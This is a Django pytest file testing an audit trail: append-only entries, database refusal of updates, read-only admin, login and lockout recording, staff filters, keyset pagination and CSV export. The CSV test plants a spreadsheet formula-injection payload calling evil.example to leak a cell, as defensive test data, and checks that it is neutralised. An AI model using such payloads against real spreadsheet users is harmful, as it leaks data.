"""The audit trail itself: append-only, logins and lockouts, and the staff page (filters, keyset
pages, CSV)."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from django.conf import settings
from django.db import DatabaseError, connection, transaction
from django.urls import reverse
from django.utils import timezone

from audit import selectors
from audit.models import Action, AppendOnly, Entry
from audit.services import record
from config.csv_writer import csv_lines
from projects.models import Role
from tests.factories import add_member, make_image, make_project

pytestmark = pytest.mark.django_db

TRAIL = reverse("audit:trail")


def actions() -> list[str]:
    return list(
        Entry.objects.exclude(action=Action.LOGIN).order_by("pk").values_list("action", flat=True)
    )


# Append-only.


def test_an_entry_is_never_changed_or_deleted_through_the_orm(user) -> None:
    entry = record(Action.PROJECT_CREATED, actor=user)
    entry.reason = "rewritten"
    with pytest.raises(AppendOnly):
        entry.save()
    with pytest.raises(AppendOnly):
        entry.delete()
    with pytest.raises(AppendOnly):
        Entry.objects.filter(pk=entry.pk).update(reason="rewritten")
    with pytest.raises(AppendOnly):
        Entry.objects.all().delete()
    assert Entry.objects.get(pk=entry.pk).reason == ""


def test_the_database_refuses_an_update_and_on_postgresql_a_delete(user) -> None:
    entry = record(Action.PROJECT_CREATED, actor=user)
    with pytest.raises(DatabaseError), transaction.atomic(), connection.cursor() as cursor:
        cursor.execute("UPDATE audit_entry SET reason = 'x' WHERE id = %s", [entry.pk])
    if connection.vendor == "postgresql":
        with pytest.raises(DatabaseError), transaction.atomic(), connection.cursor() as cursor:
            cursor.execute("DELETE FROM audit_entry WHERE id = %s", [entry.pk])
    assert Entry.objects.filter(pk=entry.pk, reason="").exists()


def test_the_admin_shows_entries_and_changes_nothing(client, staff, user) -> None:
    entry = record(Action.PROJECT_CREATED, actor=user, reason="kept as it is")
    client.force_login(staff)
    assert client.get(reverse("admin:audit_entry_changelist")).status_code == 200
    change = reverse("admin:audit_entry_change", args=[entry.pk])
    page = client.get(change)
    assert page.status_code == 200 and "kept as it is" in page.content.decode()
    assert client.post(change, {"reason": "edited"}).status_code == 403
    assert client.get(reverse("admin:audit_entry_add")).status_code == 403
    assert client.post(reverse("admin:audit_entry_delete", args=[entry.pk])).status_code == 403
    assert Entry.objects.get(pk=entry.pk).reason == "kept as it is"


# Logins and lockouts (the receivers).


def test_logins_and_lockouts_are_recorded(client, user) -> None:
    login = reverse("login")
    client.post(login, {"username": "ada", "password": "pw-ada-123456"}, REMOTE_ADDR="203.0.113.7")
    entry = Entry.objects.get(action=Action.LOGIN)
    assert (entry.actor, entry.address) == (user, "203.0.113.7")
    client.logout()
    for _ in range(settings.AXES_FAILURE_LIMIT):
        client.post(login, {"username": "ada", "password": "wrong"}, REMOTE_ADDR="203.0.113.8")
    lockout = Entry.objects.filter(action=Action.LOCKOUT).first()
    assert lockout is not None
    assert (lockout.actor, lockout.object_repr, lockout.address) == (None, "ada", "203.0.113.8")


# The staff page.


@pytest.fixture
def trail(user, outsider) -> dict:
    harbour = make_project(user, "Harbour")
    dock = make_project(outsider, "Dock")
    add_member(harbour, outsider, Role.VIEWER)
    record(Action.PROJECT_RENAMED, actor=user, project=harbour, target=harbour)
    record(Action.PROJECT_ARCHIVED, actor=outsider, project=dock, target=dock)
    record(Action.MEMBER_INVITED, actor=user, project=harbour)
    return {"harbour": harbour, "dock": dock}


def rows_of(response) -> list[str]:
    return [e.action for e in response.context["page"].entries]


def test_staff_filter_by_person_project_action_and_date(client, staff, trail) -> None:
    client.force_login(staff)
    assert rows_of(client.get(TRAIL, {"person": "MALLORY"})) == ["project.archived"]
    assert rows_of(client.get(TRAIL, {"project": str(trail["harbour"].uuid)})) == [
        "member.invited",
        "project.renamed",
    ]
    assert rows_of(client.get(TRAIL, {"action": "project.renamed"})) == ["project.renamed"]
    today = timezone.localdate()
    assert set(rows_of(client.get(TRAIL, {"date_from": today, "date_to": today}))) >= {
        "member.invited",
        "project.renamed",
        "project.archived",
    }
    assert rows_of(client.get(TRAIL, {"date_to": today - timedelta(days=1)})) == []


@pytest.mark.parametrize(
    "query",
    [
        {"person": "nobody-by-that-name"},
        {"project": "not-a-uuid"},
        {"action": "drop.tables"},
        {"date_from": "9999-12-31"},
        {"date_to": "0001-01-01"},
        {"after": "x" * 500},
    ],
)
def test_a_bad_filter_is_a_400_never_a_500(client, staff, query) -> None:
    client.force_login(staff)
    assert client.get(TRAIL, query).status_code == 400


def test_pages_are_keyset_pages_at_a_constant_query_count(client, staff, user, monkeypatch) -> None:
    from django.test.utils import CaptureQueriesContext

    monkeypatch.setattr(selectors, "PAGE_SIZE", 4)
    for n in range(10):
        image = make_image(user, prompt=f"kite {n}")
        record(Action.IMAGE_TRASHED, actor=user, target=image, reason=f"step {n}")
    client.force_login(staff)
    seen: list[str] = []
    queries: list[int] = []
    url = f"{TRAIL}?action=image.trashed"
    while url:
        with CaptureQueriesContext(connection) as captured:
            response = client.get(url)
        seen += [e.reason for e in response.context["page"].entries]
        assert all(e.url for e in response.context["page"].entries)  # one query for all links
        queries.append(len(captured))
        url = response.context["next_url"]
    assert seen == [f"step {n}" for n in range(9, -1, -1)]
    assert len(queries) == 3
    assert queries[0] == queries[1] == queries[2]
    assert not any("OFFSET" in q["sql"] or "COUNT(" in q["sql"] for q in captured.captured_queries)


def test_the_csv_neutralises_formulas(client, staff, user) -> None:
    evil = '=HYPERLINK("http://evil.example/?leak="&B3,"x")'
    project = make_project(user, evil)
    record(Action.PROJECT_CREATED, actor=user, target=project, project=project)
    client.force_login(staff)
    response = client.get(TRAIL, {"format": "csv"})
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0][:3] == ["at", "who", "action"]
    created = next(r for r in rows if r[2] == "project.created")
    assert created[4] == "'" + evil  # project
    assert created[7] == "'" + evil  # object


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_lines_make_each_formula_start_inert(start: str) -> None:
    [line] = list(csv_lines([[f"{start}1+1", "plain", 3]]))
    assert next(csv.reader(io.StringIO(line))) == [f"'{start}1+1", "plain", "3"]
